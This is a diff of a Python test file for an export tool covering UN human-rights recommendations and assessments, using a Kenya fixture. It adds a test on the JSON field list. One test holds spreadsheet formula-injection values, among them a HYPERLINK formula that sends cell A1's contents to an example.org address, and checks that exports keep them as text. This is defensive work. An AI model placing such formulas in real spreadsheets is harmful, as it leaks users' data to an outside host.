@@ -52,7 +52,7 @@ def kenya_repo(tmp_path: Path) -> Path:
     for a in data["assessments"]:
         paragraph = a["id"]
         rows.append(f"KEN-49-{paragraph},KEN,4,49,{paragraph},Fixture recommendation {paragraph},NOR,supported,,"
-                    f"Women's rights,,,fixture,A/HRC/59/1,fixture")
+                    f"Women's rights,,,fixture,A/HRC/59/1,fixture" + "," * (len(recommendations.COLUMNS) - 15))
     (root / "states" / "recommendations" / "ken.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
     folder = root / "states" / "followup" / "ken"
     folder.mkdir(parents=True)
@@ -107,7 +107,7 @@ def test_a_formula_in_any_text_column_is_a_string_cell():
     text (which a pull request can edit) are text cells too."""
     import datetime as dt
     rec = recommendations.Recommendation("KEN-49-139.13", "KEN", 4, 49, "139.13", "=1+1", ["NOR"], "supported",
-                                         None, ["@SUM(A1)"], [], [], "fixture", "A/HRC/59/1", "fixture", 2)
+                                         None, ["@SUM(A1)"], [], [], "fixture", "A/HRC/59/1", "fixture", line=2)
     fu = followup.FollowUp.of([followup.Assessment(
         "states/followup/ken/a.md", "KEN", "a", ["KEN-49-139.13"], "implemented", dt.date(2026, 1, 5),
         '=HYPERLINK("https://example.org/?d="&A1,"Open")', ["A/HRC/59/1"], "Done.")])
@@ -145,6 +145,13 @@ def test_json_keeps_the_raw_text_and_says_which_fields_hold_markdown(tmp_path):
     assert "not" in data["about"] and "spreadsheet" in data["about"]
     narratives = {a["narrative"] for r in data["recommendations"] for a in r["assessments"]}
     assert narratives == {a["note"] for a in case_values()["assessments"]}  # not prefixed, not escaped
+
+
+def test_the_fields_block_describes_every_field_of_the_records(tmp_path):
+    recs, fu = load(kenya_repo(tmp_path))
+    record = json.loads(exports.to_json(recs, fu))["recommendations"][0]
+    keys = set(record) | {f"assessments[].{k}" for k in record["assessments"][0]}
+    assert keys == set(exports.FIELDS)
 
 
 def test_excel_error_values_stay_text():
